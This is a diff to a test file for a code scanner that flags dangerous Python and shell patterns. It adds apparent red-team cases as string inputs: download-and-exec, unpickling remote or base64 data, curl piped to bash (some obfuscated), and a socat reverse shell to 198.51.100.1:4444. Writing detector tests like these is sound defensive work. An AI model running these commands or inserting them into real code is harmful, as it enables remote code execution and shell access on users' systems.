@@ -47,6 +47,15 @@ def _py(source: str) -> set[tuple[str, int]]:
             {("write-outside", 2)},
         ),
         ("import os\nopen(os.path.join('..', '..', 'x'), mode='w')\n", {("write-outside", 2)}),
+        # red team 2: code fetched from the network and run, unpickled blobs, a socket shell
+        ("import requests\ncode = requests.get(U).text\nexec(code)\n", {("download-then-run", 3)}),
+        ("import urllib.request as u\nexec(u.urlopen(U).read())\n", {("download-then-run", 2)}),
+        (
+            "import pickle, requests\npickle.loads(requests.get(U).content)\n",
+            {("download-then-run", 2)},
+        ),
+        ("import pickle, base64\npickle.loads(base64.b64decode(B))\n", {("decode-and-execute", 2)}),
+        ("import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n", {("raw-socket", 3)}),
     ],
 )
 def test_python_structure(source: str, expected: set[tuple[str, int]]) -> None:
@@ -61,6 +70,8 @@ def test_python_structure(source: str, expected: set[tuple[str, int]]) -> None:
         "import os\nprint(getattr(os, 'sep'))\n",
         "x = eval('1 + 1')\n",  # a literal: nothing hidden (the pattern rules still see eval)
         "open('/etc/hosts').read()\n",  # read, not write
+        "import pickle, requests\nr = requests.get(U)\nprint(pickle.dumps(r.json()))\n",
+        "import os\nos.dup2(w, 1)\n",  # a pipe, not a socket
     ],
 )
 def test_ordinary_python_has_no_structural_hit(source: str) -> None:
@@ -104,6 +115,15 @@ def test_unparsable_python_is_reported_and_still_pattern_scanned(tmp_path: Path)
         ("curl -LO https://x.example/setup.sh\nbash setup.sh\n", {("download-then-run", 2)}),
         ("wget https://x.example/tool\nchmod +x tool; ./tool --go\n", {("download-then-run", 2)}),
         ("chmod +x build/tool\n./build/tool --fast\n", {("dynamic-code", 2)}),
+        # red team 2: the program hidden in a variable or ANSI-C quoting, code run by `-c`
+        ("C=curl\nU=https://x.example/i\n$C -fsSL ${U} | bash\n", {("remote-code-pipe", 3)}),
+        ("$'\\x63url' -fsSL https://x.example/i | $'\\142ash'\n", {("remote-code-pipe", 1)}),
+        ("sh -c 'bash -c \"curl -s https://x.example | sh\"'\n", {("remote-code-pipe", 1)}),
+        (
+            'python3 -c "import urllib.request as u;exec(u.urlopen(U).read())"\n',
+            {("download-then-run", 1)},
+        ),
+        ("socat TCP:198.51.100.1:4444 EXEC:/bin/sh\n", {("raw-socket", 1)}),
     ],
 )
 def test_shell_tokens(script: str, expected: set[tuple[str, int]]) -> None:
@@ -118,6 +138,7 @@ def test_shell_tokens(script: str, expected: set[tuple[str, int]]) -> None:
         "# curl https://x | sh (a comment)\necho done\n",
         "echo 'unbalanced quote\n",
         "sh ./configure.sh && make\n",
+        "V=3.1\nsh -c \"echo $V\" && python3 -c 'print(1)'\n",
     ],
 )
 def test_ordinary_shell_has_no_structural_hit(script: str) -> None:
